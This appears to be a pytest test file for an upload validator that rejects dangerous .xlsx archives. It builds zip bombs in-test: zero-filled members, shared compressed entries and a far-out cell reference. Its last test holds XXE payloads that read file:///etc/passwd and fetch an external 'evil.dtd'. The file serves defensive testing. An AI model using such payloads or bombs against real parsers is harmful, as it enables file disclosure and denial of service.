"""Zips that would swamp the machine, whatever their members are called."""

from __future__ import annotations

import copy
import io
import random
import time
import zipfile

import pytest
import xlsxwriter

from collabdesk.domain.failures import NotASheet, TooLarge
from collabdesk.exchange import zip_limits
from collabdesk.exchange.zip_limits import MEBIBYTE, check_zip


def parts() -> dict[str, bytes]:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as workbook:
        workbook.add_worksheet().write_column(0, 0, ["Comment", "Cold"])
    with zipfile.ZipFile(stream) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def reason(members: dict[str, bytes]) -> str:
    with pytest.raises(NotASheet) as caught:
        check_zip(zipped(members), "a.xlsx")
    return caught.value.reason


def test_a_plain_workbook_passes_also_with_a_drawing_that_has_a_document_type() -> None:
    check_zip(zipped(parts()), "a.xlsx")
    drawing = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ""><svg><circle r="50"/></svg>'
    check_zip(zipped(parts() | {"xl/media/image1.svg": drawing}), "a.xlsx")


def test_a_cell_far_out_is_found_in_a_part_of_any_name() -> None:
    # Calamine follows the workbook's links, lays out 17 billion cells and takes the whole program with it.
    members = parts()
    sheet = members.pop("xl/worksheets/sheet1.xml").replace(b'r="A2"', b'r="XFD1048576"')
    renamed = {name: part.replace(b"sheet1.xml", b"sheet1.dat") for name, part in members.items()}
    assert reason(renamed | {"xl/worksheets/sheet1.dat": sheet}) == "unsafe"


def test_nothing_but_zeros_is_unsafe_in_a_part_of_any_name() -> None:
    for name in ("xl/sharedStrings.xml", "xl/media/image1.png", "xl/vbaProject.bin"):
        assert reason(parts() | {name: bytes(20 * MEBIBYTE)}) == "unsafe"


def test_a_binary_workbook_is_not_opened() -> None:
    assert reason(parts() | {"xl/workbook.bin": b"\x83\x01"}) == "binary"


def quickly(members: dict[str, bytes]) -> str:
    content = zipped(members)
    began = time.monotonic()
    with pytest.raises((NotASheet, TooLarge)) as caught:
        check_zip(content, "a.xlsx")
    assert time.monotonic() - began < 5
    return getattr(caught.value, "reason", "large")


def test_many_members_each_small_enough_are_counted_together() -> None:
    assert quickly(parts() | {f"xl/media/{n}.xml": bytes(15 * MEBIBYTE) for n in range(10)}) == "unsafe"


def test_members_that_share_their_bytes_count_each() -> None:
    """As in the bomb of ZIPBOMBS.txt: one packed piece that many names point at."""
    stream = io.BytesIO(zipped(parts() | {"xl/a.xml": bytes(MEBIBYTE)}))
    with zipfile.ZipFile(stream, "a") as archive:
        shared = archive.getinfo("xl/a.xml")
        for number in range(200):
            again = copy.copy(shared)
            again.filename = f"xl/{number}.xml"
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
        archive._didModify = True  # type: ignore[attr-defined]  # noqa: SLF001
    began = time.monotonic()
    with pytest.raises(NotASheet) as caught:
        check_zip(stream.getvalue(), "a.xlsx")
    assert caught.value.reason in {"unsafe", "broken"}
    assert time.monotonic() - began < 5


def test_a_zip_within_a_zip_is_not_unpacked() -> None:
    inner = zipped({"xl/workbook.xml": bytes(300 * MEBIBYTE)})
    check_zip(zipped(parts() | {"xl/embeddings/inner.xlsx": inner}), "a.xlsx")


def test_more_than_any_sheet_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zip_limits, "LARGEST_UNPACKED", 1)
    noise = random.Random(1).randbytes(2 * MEBIBYTE)
    assert quickly(parts() | {"xl/media/image1.png": noise}) == "large"


def test_too_many_members() -> None:
    assert quickly(parts() | {f"xl/{number}": b"" for number in range(5_001)}) == "unsafe"


@pytest.mark.parametrize("before", [b" ", b"\n", b"\t", b'"'])
def test_a_cell_far_out_is_found_however_it_is_written(before: bytes) -> None:
    sheet = parts()["xl/worksheets/sheet1.xml"]
    far = sheet.replace(b' r="A2"', before + b"r =\n'XFD1048576'")
    assert far != sheet
    assert reason(parts() | {"xl/worksheets/sheet1.xml": far}) == "unsafe"


def test_what_only_ends_in_the_letter_is_no_cell() -> None:
    sheet = parts()["xl/worksheets/sheet1.xml"].replace(b' r="A2"', b' r="A2" clr="XFD1048576"')
    check_zip(zipped(parts() | {"xl/worksheets/sheet1.xml": sheet}), "a.xlsx")


@pytest.mark.parametrize(
    "part",
    [
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        b'<!DOCTYPE x SYSTEM "https://example.org/evil.dtd"><x/>',
    ],
)
@pytest.mark.parametrize("where", ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/externalLinks/a.xml"])
def test_entities_of_elsewhere_are_refused_in_any_part(part: bytes, where: str) -> None:
    assert reason(parts() | {where: part}) == "unsafe"
